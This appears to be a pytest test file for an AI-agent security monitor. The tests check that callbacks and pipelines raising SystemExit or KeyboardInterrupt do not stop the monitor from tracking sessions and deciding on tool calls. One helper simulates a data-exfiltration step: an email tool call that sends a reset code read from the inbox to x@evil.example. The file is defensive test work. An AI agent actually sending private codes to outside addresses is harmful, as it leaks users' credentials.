"""A user's callback that raises ``SystemExit`` or ``KeyboardInterrupt`` on the processor's threads: counted,
logged once, and monitoring goes on (a real processor, each worker)."""

from __future__ import annotations

import json
import logging
from typing import Any

import pytest
from opentelemetry.sdk._logs import LoggerProvider, LogRecordProcessor
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider

from monitor.models import Action, AlertRaised, CallDecided, LevelChanged
from monitor.otel import TrifectaAlert, TrifectaSpanProcessor
from monitor.session import SessionMonitor

EXITS = [SystemExit, KeyboardInterrupt, GeneratorExit]


def tool_span(tracer: Any, tool: str, call_id: str, arguments: dict[str, Any], result: str) -> None:
    """One traced tool call with its result."""
    attributes = {
        "gen_ai.operation.name": "execute_tool",
        "gen_ai.tool.name": tool,
        "gen_ai.tool.call.id": call_id,
        "gen_ai.tool.call.arguments": json.dumps(arguments),
        "gen_ai.tool.call.result": json.dumps({"text": result}),
    }
    with tracer.start_as_current_span(f"execute_tool {tool}", attributes=attributes):
        pass


def run_session(provider: TracerProvider, session: str) -> None:
    """A session that reads the inbox (private, open world: exposed and armed alerts on the way)."""
    tracer = provider.get_tracer("app")
    with tracer.start_as_current_span("agent", attributes={"gen_ai.conversation.id": session}):
        tool_span(
            tracer, "mcp__mail__search_inbox", f"{session}-1", {"q": "x"}, "reset code 123456, reply to a@b.example"
        )


def make_provider(processor: TrifectaSpanProcessor) -> TracerProvider:
    provider = TracerProvider(resource=Resource({"service.name": "agent"}), shutdown_on_exit=False)
    provider.add_span_processor(processor)
    return provider


def check_still_decides(processor: TrifectaSpanProcessor) -> None:
    """The engine still answers: a real decision, not the ``monitor-error`` fallback."""
    decision = processor.check_tool_call(None, "mcp__mail__send_email", {"to": "x@evil.example", "body": "123456"})
    assert "monitor-error" not in [r.value for r in decision.reasons]
    assert decision.action in (Action.ALLOW, Action.CONFIRM, Action.DENY)


@pytest.mark.parametrize("worker", ["thread", "process"])
@pytest.mark.parametrize("exit_kind", EXITS)
def test_on_alert_raising_an_exit_neither_stops_monitoring_nor_escapes(
    worker: str, exit_kind: type[BaseException], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="monitor.otel")
    received: list[TrifectaAlert] = []

    def on_alert(alert: TrifectaAlert) -> None:
        received.append(alert)
        raise exit_kind()

    processor = TrifectaSpanProcessor(on_alert=on_alert, worker=worker)
    provider = make_provider(processor)
    try:
        run_session(provider, "first")
        assert processor.force_flush()
        raised = len(received)
        assert raised >= 1  # the session raised alerts, and each reached the callback
        run_session(provider, "second")  # later sessions are still watched and their alerts delivered
        assert processor.force_flush()
        assert len(received) > raised and {a.session_id for a in received} == {"first", "second"}
        check_still_decides(processor)
        assert processor.errors == {"on_alert": len(received)}
        logged = [r for r in caplog.records if r.name == "monitor.otel" and "on_alert" in r.getMessage()]
        assert len(logged) == 1  # once, however many times
    finally:
        processor.shutdown()


class ExitingSink:
    """The application's own sink on the monitor it hands the processor: every method raises ``exit_kind``."""

    def __init__(self, exit_kind: type[BaseException]) -> None:
        self.exit_kind = exit_kind
        self.calls = 0

    def _raise(self) -> None:
        self.calls += 1
        raise self.exit_kind()

    def on_decision(self, notice: CallDecided) -> None:
        """Raise."""
        self._raise()

    def on_alert(self, notice: AlertRaised) -> None:
        """Raise."""
        self._raise()

    def on_level(self, notice: LevelChanged) -> None:
        """Raise."""
        self._raise()


@pytest.mark.parametrize("exit_kind", EXITS)
def test_the_monitors_own_sink_raising_an_exit_does_not_kill_the_delivery_thread(
    exit_kind: type[BaseException],
) -> None:
    sink = ExitingSink(exit_kind)
    monitor = SessionMonitor(sink=sink)
    alerts: list[TrifectaAlert] = []
    processor = TrifectaSpanProcessor(monitor, on_alert=alerts.append)
    provider = make_provider(processor)
    try:
        run_session(provider, "first")
        run_session(provider, "second")
        assert processor.force_flush()
        assert {a.session_id for a in alerts} == {"first", "second"}  # the processor's own exporters still run
        check_still_decides(processor)
        assert processor.errors == {"sink": sink.calls} and sink.calls >= 4
    finally:
        processor.shutdown()


class ExitingLogProcessor(LogRecordProcessor):
    """A log pipeline of the application that raises ``SystemExit`` on every record."""

    def __init__(self) -> None:
        self.seen = 0

    def on_emit(self, log_record: Any) -> None:
        """Raise."""
        self.seen += 1
        raise SystemExit(3)

    emit = on_emit

    def shutdown(self) -> None:
        """Nothing to do."""

    def force_flush(self, timeout_millis: int = 30000) -> bool:
        """Nothing waits."""
        return True


def test_a_log_pipeline_raising_system_exit_is_counted_and_the_callback_still_runs() -> None:
    logs = ExitingLogProcessor()
    logger_provider = LoggerProvider(shutdown_on_exit=False)
    logger_provider.add_log_record_processor(logs)
    alerts: list[TrifectaAlert] = []
    processor = TrifectaSpanProcessor(logger_provider=logger_provider, on_alert=alerts.append, worker="thread")
    provider = make_provider(processor)
    try:
        run_session(provider, "first")
        run_session(provider, "second")
        assert processor.force_flush()
        assert len(alerts) == logs.seen >= 2
        assert processor.errors == {"emit_log": logs.seen}
        check_still_decides(processor)
    finally:
        processor.shutdown()


class ExitingRules:
    """Override rules of the application's own making whose ``classify`` raises ``SystemExit``."""

    def __init__(self) -> None:
        self.calls = 0

    def classify(self, tool: Any) -> None:
        """Raise."""
        self.calls += 1
        raise SystemExit(1)

    def trust_for(self, server: str) -> bool | None:
        """No word on trust."""
        return None


def test_rules_raising_system_exit_in_the_engine_thread_are_counted_and_later_spans_analysed() -> None:
    rules = ExitingRules()
    alerts: list[TrifectaAlert] = []
    processor = TrifectaSpanProcessor(rules=rules, on_alert=alerts.append, worker="thread")
    provider = make_provider(processor)
    try:
        run_session(provider, "first")
        run_session(provider, "second")
        assert processor.force_flush()
        assert rules.calls == 2  # the engine read both sessions' calls: its thread survived the first
        assert processor.errors == {"engine": 2}
        assert processor.list_sessions() == ["first", "second"]
    finally:
        processor.shutdown()
